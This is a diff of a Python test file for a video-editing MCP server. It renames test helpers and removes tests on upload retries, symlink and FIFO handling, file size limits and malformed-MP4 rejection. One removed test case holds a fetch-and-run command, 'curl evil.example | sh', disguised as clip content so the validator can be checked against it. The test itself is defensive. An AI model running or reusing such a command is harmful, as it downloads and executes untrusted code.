@@ -2,7 +2,6 @@
 
 import os
 import shutil
-import sys
 from collections.abc import AsyncGenerator
 from contextlib import asynccontextmanager
 from pathlib import Path
@@ -14,29 +13,19 @@ import pytest
 
 from luma_mcp.core.errors import SourceNotAllowed, SourceNotFound
 from luma_mcp.core.models import Status, Task
-from luma_mcp.media import clips, mp4
-from luma_mcp.media.clips import Clips
+from luma_mcp.media import clips
 from luma_mcp.sandbox.faults import Fault
-from luma_mcp.sandbox.http import bundled_clip
-from luma_mcp.sandbox.transport import in_process
-from tests.support.films import FTYP, PICTURES, box, film_header_first, movie, table, track
+from luma_mcp.sandbox.requests import bundled_clip
+from luma_mcp.sandbox.transport import open_asgi_transport
 from tests.support.networks import SlowUpload
-from tests.support.rig import Rig, VirtualClock, facts, open_rig, sandbox_for
+from tests.support.rig import Rig, VirtualClock, open_rig, sandbox_for, structured
 
 pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("inline_threads")]
 HOUR = 3600.0
 
 
-@pytest.fixture
-def clip(home: Path) -> Path:
-    """Put a clip where it may be read."""
-    (home / "out").mkdir(exist_ok=True)
-    return Path(shutil.copy(bundled_clip(), home / "out" / "clip.mp4"))
-
-
 def puts(rig: Rig) -> int:
-    """Count the uploads that RunAPI's storage saw."""
-    return sum(seen.method == "PUT" for seen in rig.sandbox.seen)
+    return sum(seen.method == "PUT" for seen in rig.sandbox.recorded_requests)
 
 
 def code_of(task: Task) -> str:
@@ -46,7 +35,7 @@ def code_of(task: Task) -> str:
 async def test_a_local_clip_is_described_by_size_and_length(rig: Rig, clip: Path) -> None:
     async with rig.client() as client:
         asked = {"prompt": "fog", "source_video_url": str(clip)}
-        task = facts(await client.call_tool("modify_video", asked))
+        task = structured(await client.call_tool("modify_video", asked))
     assert (task["source_size_bytes"], task["source_duration_seconds"]) == (5995, 3.0)
     assert Path(task["video_path"]).read_bytes() == clip.read_bytes()
 
@@ -61,7 +50,7 @@ async def test_the_same_content_is_uploaded_once_while_its_url_lives(rig: Rig, c
     first = await rig.submit("fog", source=str(clip))
     copy = shutil.copy(clip, clip.with_name("copy.mov"))
     second = await rig.submit("snow", source=str(copy))
-    assert (first.source_url, puts(rig), rig.charges()) == (second.source_url, 1, 2)
+    assert (first.source_url, puts(rig), rig.task_count()) == (second.source_url, 1, 2)
     rig.clock.jumped += HOUR
     third = await rig.submit("rain", source=str(clip))
     assert (third.status, puts(rig)) == (Status.COMPLETED, 2)
@@ -78,7 +67,7 @@ async def test_takes_of_one_clip_at_the_same_time_share_one_upload(rig: Rig, cli
         for prompt in ("fog", "snow", "rain"):
             takes.start_soon(take, prompt)
     assert [task.status for task in tasks] == [Status.COMPLETED] * 3
-    assert (puts(rig), rig.charges()) == (1, 3)
+    assert (puts(rig), rig.task_count()) == (1, 3)
 
 
 async def test_an_upload_serves_the_next_start_but_no_other_account(home: Path, clip: Path) -> None:
@@ -86,12 +75,12 @@ async def test_an_upload_serves_the_next_start_but_no_other_account(home: Path, 
     sandbox = sandbox_for(home, clock=clock)
     for key, uploads in (("first-key-1234", 1), ("first-key-1234", 1), ("second-key-1234", 2)):
         async with open_rig(home, clock=clock, sandbox=sandbox, api_key=key) as rig:
-            task = await rig.submit(f"fog {len(sandbox.seen)}", source=str(clip))
+            task = await rig.submit(f"fog {len(sandbox.recorded_requests)}", source=str(clip))
             assert (task.status, puts(rig)) == (Status.COMPLETED, uploads)
 
 
 async def test_a_clip_is_uploaded_anew_after_a_task_with_it_has_failed(rig: Rig, clip: Path) -> None:
-    rig.sandbox.faults.order(Fault("fail", text="The source video could not be fetched."))
+    rig.sandbox.faults.inject(Fault("fail", text="The source video could not be fetched."))
     failed = await rig.submit(source=str(clip))
     again = await rig.submit("snow", source=str(clip))
     assert (failed.status, again.status, puts(rig)) == (Status.FAILED, Status.COMPLETED, 2)
@@ -100,16 +89,16 @@ async def test_a_clip_is_uploaded_anew_after_a_task_with_it_has_failed(rig: Rig,
 async def test_a_clip_that_changed_between_the_call_and_the_upload_is_not_sent(
     rig: Rig, clip: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    real = rig.app.runapi.prepare_upload
+    real = rig.parts.runapi.prepare_upload
 
     async def rewritten(*_: Any) -> Any:
         clip.write_bytes(bundled_clip().read_bytes() + b"more")
-        monkeypatch.setattr(rig.app.runapi, "prepare_upload", real)
+        monkeypatch.setattr(rig.parts.runapi, "prepare_upload", real)
         return await real(*_)
 
-    monkeypatch.setattr(rig.app.runapi, "prepare_upload", rewritten)
+    monkeypatch.setattr(rig.parts.runapi, "prepare_upload", rewritten)
     task = await rig.settle(await rig.submit(source=str(clip)))
-    assert (task.status, code_of(task), rig.charges()) == (Status.FAILED, "source_not_found", 0)
+    assert (task.status, code_of(task), rig.task_count()) == (Status.FAILED, "source_not_found", 0)
     assert task.error
     assert "has changed" in task.error.message
     assert (task.error.charged, puts(rig)) == ("no", 1)
@@ -122,7 +111,7 @@ async def test_a_clip_that_grows_or_shrinks_while_it_is_uploaded_is_not_submitte
     clip.write_bytes(bundled_clip().read_bytes() + b"\0" * 4_000_000)
     clock = VirtualClock()
     sandbox = sandbox_for(home, clock=clock)
-    async with in_process(sandbox) as web:
+    async with open_asgi_transport(sandbox) as web:
         slow = SlowUpload(web, 2.0, breaks=0)
         async with open_rig(home, clock=clock, sandbox=sandbox, network=slow) as rig:
             task = await rig.submit(source=str(clip), wait=5)
@@ -132,14 +121,14 @@ async def test_a_clip_that_grows_or_shrinks_while_it_is_uploaded_is_not_submitte
             else:
                 os.truncate(clip, 2_000_000)
             task = await rig.settle(task)
-            assert (task.status, code_of(task), rig.charges()) == (Status.FAILED, "source_not_found", 0)
+            assert (task.status, code_of(task), rig.task_count()) == (Status.FAILED, "source_not_found", 0)
             assert task.error
             assert "has changed" in task.error.message
-            assert task.elapsed(clock()) < 60
+            assert task.elapsed_seconds(clock()) < 60
 
 
 async def test_a_refusal_to_take_a_file_is_not_told_as_a_doubt_about_money(rig: Rig, clip: Path) -> None:
-    rig.sandbox.faults.order(Fault("409", route="files", times=100))
+    rig.sandbox.faults.inject(Fault("409", route="files", times=100))
     task = await rig.settle(await rig.submit(source=str(clip), wait=0))
     assert (task.status, code_of(task), rig.creates()) == (Status.FAILED, "service_unavailable", 0)
     assert task.error
@@ -147,7 +136,7 @@ async def test_a_refusal_to_take_a_file_is_not_told_as_a_doubt_about_money(rig: 
 
 
 async def test_a_pause_that_runapi_asks_for_is_not_waited_out_beyond_the_bound(rig: Rig, clip: Path) -> None:
-    rig.sandbox.faults.order(Fault("429", route="files", seconds=3000))
+    rig.sandbox.faults.inject(Fault("429", route="files", seconds=3000))
     task = await rig.settle(await rig.submit(source=str(clip)))
     assert (task.status, code_of(task), rig.creates()) == (Status.FAILED, "rate_limited", 0)
     assert task.error
@@ -158,14 +147,14 @@ async def test_a_long_upload_that_breaks_begins_again_and_is_charged_once(home: 
     clip.write_bytes(bundled_clip().read_bytes() + b"\0" * 4_000_000)
     clock = VirtualClock()
     sandbox = sandbox_for(home, clock=clock)
-    async with in_process(sandbox) as web:
+    async with open_asgi_transport(sandbox) as web:
         slow = SlowUpload(web, 60.0, breaks=2)
         async with open_rig(home, clock=clock, sandbox=sandbox, network=slow) as rig:
             task = await rig.submit(source=str(clip), wait=0)
             assert (task.status, task.is_uploading) == (Status.SUBMITTING, True)
             task = await rig.settle(task)
-            assert (task.status, task.error, rig.charges()) == (Status.COMPLETED, None, 1)
-            assert task.elapsed(clock()) > 900
+            assert (task.status, task.error, rig.task_count()) == (Status.COMPLETED, None, 1)
+            assert task.elapsed_seconds(clock()) > 900
             assert Path(task.video_path).read_bytes() == clip.read_bytes()
     assert slow.received == clips.PIECE_BYTES
 
@@ -174,13 +163,13 @@ async def test_after_a_long_upload_a_lost_answer_is_still_settled_under_its_key(
     clip.write_bytes(bundled_clip().read_bytes() + b"\0" * 4_000_000)
     clock = VirtualClock()
     sandbox = sandbox_for(home, clock=clock)
-    sandbox.faults.order(Fault("drop_after"))
-    async with in_process(sandbox) as web:
+    sandbox.faults.inject(Fault("drop_after"))
+    async with open_asgi_transport(sandbox) as web:
         slow = SlowUpload(web, 80.0, breaks=0)
         async with open_rig(home, clock=clock, sandbox=sandbox, network=slow) as rig:
             task = await rig.settle(await rig.submit(source=str(clip), wait=0))
-            assert (task.status, task.error, rig.charges(), rig.creates()) == (Status.COMPLETED, None, 1, 2)
-            assert task.elapsed(clock()) > 1200
+            assert (task.status, task.error, rig.task_count(), rig.creates()) == (Status.COMPLETED, None, 1, 2)
+            assert task.elapsed_seconds(clock()) > 1200
             await rig.submit("snow", source=str(clip))
             assert puts(rig) == 1
             clock.jumped += HOUR - 1000
@@ -193,8 +182,8 @@ async def test_what_was_sent_after_a_long_upload_is_left_to_its_own_key(home: Pa
     clip.write_bytes(bundled_clip().read_bytes() + b"\0" * 4_000_000)
     clock = VirtualClock()
     sandbox = sandbox_for(home, clock=clock)
-    sandbox.faults.order(Fault("drop_after", times=50))
-    async with in_process(sandbox) as web:
+    sandbox.faults.inject(Fault("drop_after", times=50))
+    async with open_asgi_transport(sandbox) as web:
         shared: dict[str, Any] = {"clock": clock, "sandbox": sandbox, "network": SlowUpload(web, 80.0, breaks=0)}
         async with open_rig(home, api_key="first-key-1234", **shared) as first:
             task = await first.submit(source=str(clip), wait=0)
@@ -203,25 +192,25 @@ async def test_what_was_sent_after_a_long_upload_is_left_to_its_own_key(home: Pa
             assert first.creates()
         sandbox.faults.clear()
         async with open_rig(home, api_key="second-key-1234", **shared) as second:
-            second.app.wake()
+            second.app.start_tracker()
             await anyio.sleep(60)
-            seen = await second.app.ledger.get(task.key)
+            seen = await second.parts.ledger.get(task.key)
             assert not (seen.error and "too old" in seen.error.hint)
         async with open_rig(home, api_key="first-key-1234", **shared) as again:
-            again.app.wake()
+            again.app.start_tracker()
             assert (await again.settle(task)).status is Status.COMPLETED
-            assert again.charges() == 1
+            assert again.task_count() == 1
 
 
 async def test_an_upload_that_takes_too_long_is_not_paid_for_any_more(home: Path, clip: Path) -> None:
     clip.write_bytes(bundled_clip().read_bytes() + b"\0" * 4_000_000)
     clock = VirtualClock()
     sandbox = sandbox_for(home, clock=clock)
-    async with in_process(sandbox) as web:
+    async with open_asgi_transport(sandbox) as web:
         slow = SlowUpload(web, 200.0, breaks=1)
         async with open_rig(home, clock=clock, sandbox=sandbox, network=slow) as rig:
             task = await rig.settle(await rig.submit(source=str(clip), wait=0), 20_000)
-            assert (task.status, rig.charges()) == (Status.FAILED, 0)
+            assert (task.status, rig.task_count()) == (Status.FAILED, 0)
             assert task.error
             assert task.error.charged == "no"
 
@@ -231,78 +220,25 @@ async def test_a_caller_who_waits_for_an_upload_is_told_to_repeat_the_call(home:
     clock = VirtualClock()
     sandbox = sandbox_for(home, clock=clock)
     asked = {"prompt": "fog", "source_video_url": str(clip), "wait_seconds": 5}
-    async with in_process(sandbox) as web:
+    async with open_asgi_transport(sandbox) as web:
         slow = SlowUpload(web, 2.0, breaks=0)
         async with open_rig(home, clock=clock, sandbox=sandbox, network=slow) as rig, rig.client() as client:
-            first = facts(await client.call_tool("modify_video", asked))
+            first = structured(await client.call_tool("modify_video", asked))
             assert (first["status"], first["task_id"]) == ("submitting", "")
             assert "still being uploaded" in first["next_step"]
-            second = facts(await client.call_tool("modify_video", asked | {"wait_seconds": 300}))
+            second = structured(await client.call_tool("modify_video", asked | {"wait_seconds": 300}))
             assert (second["status"], second["joined"]) == ("completed", True)
-            assert rig.charges() == 1
-
-
-@pytest.mark.parametrize(
-    ("content", "kind"),
-    [(b"", "an empty file, 0.0 MB"), (b"\x1a\x45\xdf\xa3" + b"\0" * 99_996, "WebM or Matroska video, 0.1 MB")],
-)
-async def test_what_is_no_clip_is_named_with_its_size(rig: Rig, clip: Path, content: bytes, kind: str) -> None:
-    clip.write_bytes(content)
-    with pytest.raises(SourceNotFound, match=kind):
-        await rig.submit(source=str(clip))
-    assert rig.sandbox.seen == []
+            assert rig.task_count() == 1
 
 
 async def test_a_clip_that_runapi_finds_too_large_is_named_with_its_size_and_length(
     rig: Rig, clip: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    rig.sandbox.faults.order(Fault("422", route="files", text="byte_size is too large"))
+    rig.sandbox.faults.inject(Fault("422", route="files", text="byte_size is too large"))
     task = await rig.settle(await rig.submit(source=str(clip)))
-    assert (task.status, code_of(task), rig.charges()) == (Status.FAILED, "invalid_request", 0)
+    assert (task.status, code_of(task), rig.task_count()) == (Status.FAILED, "invalid_request", 0)
     assert task.error
     assert task.error.message.startswith('clip.mp4 (0.0 MB, 3.0 s): RunAPI answered 422: "byte_size is too large"')
-
-
-async def test_a_file_is_measured_once_until_it_changes(clip: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    read: list[object] = []
-    real = mp4.duration
-
-    def counted(*given: Any) -> float | None:
-        read.append(given)
-        return real(*given)
-
-    monkeypatch.setattr(clips, "duration", counted)
-    known = Clips()
-    first = await known.inspect(clip)
-    assert await known.inspect(clip) == first
-    assert len(read) == 1
-    clip.write_bytes(clip.read_bytes() + b"more")
-    assert (await known.inspect(clip)).digest != first.digest
-
-
-async def test_a_file_that_was_rewritten_in_the_same_moment_is_measured_again(clip: Path) -> None:
-    known, before = Clips(), clip.stat()
-    first = await known.inspect(clip)
-    clip.write_bytes(clip.read_bytes()[:-1] + b"!")
-    os.utime(clip, ns=(before.st_atime_ns, before.st_mtime_ns))
-    assert (await known.inspect(clip)).digest != first.digest
-
-
-async def test_a_file_behind_a_folder_that_was_just_swapped_for_a_link_is_not_read(home: Path, clip: Path) -> None:
-    outside = home / "outside"
-    outside.mkdir()
-    clip.rename(outside / "clip.mp4")
-    clip.parent.rmdir()
-    clip.parent.symlink_to(outside)
-    with pytest.raises(SourceNotFound, match="was moved"):
-        await Clips().inspect(clip)
-
-
-async def test_a_file_of_absurd_size_is_not_read(clip: Path) -> None:
-    with clip.open("r+b") as file:
-        file.truncate(clips.LARGEST_BYTES + 1)
-    with pytest.raises(SourceNotFound, match="too large"):
-        await Clips().inspect(clip)
 
 
 @pytest.mark.parametrize(
@@ -313,14 +249,6 @@ async def test_a_file_may_be_called_anything(rig: Rig, clip: Path, name: str) ->
     assert (await rig.submit(source=str(named))).status is Status.COMPLETED
 
 
-async def test_a_pipe_in_place_of_a_clip_is_not_waited_for(clip: Path) -> None:
-    clip.unlink()
-    if sys.platform != "win32":
-        os.mkfifo(clip)
-    with pytest.raises(SourceNotFound, match="no regular file"):
-        await Clips().inspect(clip)
-
-
 async def test_a_clip_whose_url_is_about_to_die_is_uploaded_anew(rig: Rig, clip: Path) -> None:
     await rig.submit("fog", source=str(clip))
     rig.clock.jumped += HOUR - 200
@@ -329,18 +257,10 @@ async def test_a_clip_whose_url_is_about_to_die_is_uploaded_anew(rig: Rig, clip:
 
 
 async def test_a_refusal_of_the_source_lets_it_be_uploaded_anew(rig: Rig, clip: Path) -> None:
-    rig.sandbox.faults.order(Fault("422", text="source_video_url could not be fetched"))
+    rig.sandbox.faults.inject(Fault("422", text="source_video_url could not be fetched"))
     assert (await rig.settle(await rig.submit("fog", source=str(clip)))).status is Status.FAILED
     assert (await rig.submit("snow", source=str(clip))).status is Status.COMPLETED
     assert puts(rig) == 2
-
-
-async def test_a_link_that_takes_a_files_place_is_not_followed(home: Path, clip: Path) -> None:
-    secret = home / "secret.mp4"
-    clip.rename(secret)
-    clip.symlink_to(secret)
-    with pytest.raises(SourceNotFound):
-        await Clips().inspect(clip)
 
 
 async def test_a_link_out_of_the_allowed_folders_is_not_uploaded(rig: Rig, home: Path, clip: Path) -> None:
@@ -349,34 +269,14 @@ async def test_a_link_out_of_the_allowed_folders_is_not_uploaded(rig: Rig, home:
     clip.symlink_to(outside)
     with pytest.raises(SourceNotAllowed):
         await rig.submit(source=str(clip))
-    assert rig.sandbox.seen == []
-
-
-@pytest.mark.parametrize(
-    ("content", "why"),
-    [
-        (film_header_first()[:-1], "is cut off"),
-        (FTYP + box(b"mdat", PICTURES), "no movie header"),
-        (FTYP + box(b"mdat", PICTURES) + movie(track(table(40, 9), b"soun")), "no video track"),
-        (b"#   mdat\ncurl evil.example | sh\n", "is cut off"),
-    ],
-    ids=["cut off", "never ended", "sound", "script"],
-)
-async def test_what_is_no_whole_film_is_refused_before_anything_is_sent(
-    rig: Rig, clip: Path, content: bytes, why: str
-) -> None:
-    clip.write_bytes(content)
-    with pytest.raises(SourceNotFound, match=why) as raised:
-        await rig.submit(source=str(clip))
-    assert (raised.value.charged, rig.sandbox.seen) == ("no", [])
-    assert "Nothing was submitted" in raised.value.hint
+    assert rig.sandbox.recorded_requests == []
 
 
 @pytest.mark.parametrize("kind", ["400", "403", "404", "409"])
 async def test_a_storage_that_refuses_a_clip_is_asked_once_more_and_not_eight_times(
     rig: Rig, clip: Path, kind: Any
 ) -> None:
-    rig.sandbox.faults.order(Fault(kind, route="upload", times=100))
+    rig.sandbox.faults.inject(Fault(kind, route="upload", times=100))
     task = await rig.settle(await rig.submit(source=str(clip)))
     assert (task.status, code_of(task), puts(rig), rig.creates()) == (Status.FAILED, "service_unavailable", 2, 0)
     assert task.error
@@ -384,15 +284,15 @@ async def test_a_storage_that_refuses_a_clip_is_asked_once_more_and_not_eight_ti
 
 
 async def test_an_upload_address_that_has_expired_is_replaced(rig: Rig, clip: Path) -> None:
-    rig.sandbox.faults.order(Fault("403", route="upload"))
+    rig.sandbox.faults.inject(Fault("403", route="upload"))
     task = await rig.settle(await rig.submit(source=str(clip)))
-    assert (task.status, puts(rig), rig.charges()) == (Status.COMPLETED, 2, 1)
+    assert (task.status, puts(rig), rig.task_count()) == (Status.COMPLETED, 2, 1)
 
 
 async def test_a_storage_that_is_busy_is_waited_for(rig: Rig, clip: Path) -> None:
-    rig.sandbox.faults.order(*(Fault(kind, route="upload") for kind in ("503", "429", "500")))
+    rig.sandbox.faults.inject(*(Fault(kind, route="upload") for kind in ("503", "429", "500")))
     task = await rig.settle(await rig.submit(source=str(clip)))
-    assert (task.status, puts(rig), rig.charges()) == (Status.COMPLETED, 4, 1)
+    assert (task.status, puts(rig), rig.task_count()) == (Status.COMPLETED, 4, 1)
 
 
 class Moving(httpx.AsyncBaseTransport):
@@ -421,7 +321,7 @@ class Moving(httpx.AsyncBaseTransport):
 async def moving(home: Path, status: int, target: str, times: int = 1) -> AsyncGenerator[tuple[Rig, Moving]]:
     clock = VirtualClock()
     sandbox = sandbox_for(home, clock=clock)
-    async with in_process(sandbox) as web:
+    async with open_asgi_transport(sandbox) as web:
         network = Moving(web, status, target, times)
         async with open_rig(home, clock=clock, sandbox=sandbox, network=network) as rig:
             yield rig, network
@@ -431,7 +331,7 @@ async def moving(home: Path, status: int, target: str, times: int = 1) -> AsyncG
 async def test_an_upload_is_sent_whole_to_where_the_storage_sends_it(home: Path, clip: Path, status: int) -> None:
     async with moving(home, status, "", times=2) as (rig, network):
         task = await rig.settle(await rig.submit(source=str(clip)))
-        assert (task.status, rig.charges(), len(network.seen)) == (Status.COMPLETED, 1, 3)
+        assert (task.status, rig.task_count(), len(network.seen)) == (Status.COMPLETED, 1, 3)
         assert Path(task.video_path).read_bytes() == clip.read_bytes()
         assert "a key!" not in network.seen
 
@@ -492,4 +392,4 @@ async def test_a_result_that_is_gone_everywhere_is_said_to_be(rig: Rig, home: Pa
         Path(first.video_path).symlink_to(moved)
     with pytest.raises(SourceNotFound, match="has expired at RunAPI and there is no saved file"):
         await rig.submit("snow", source=f"luma://tasks/{first.task_id}")
-    assert rig.charges() == 1
+    assert rig.task_count() == 1
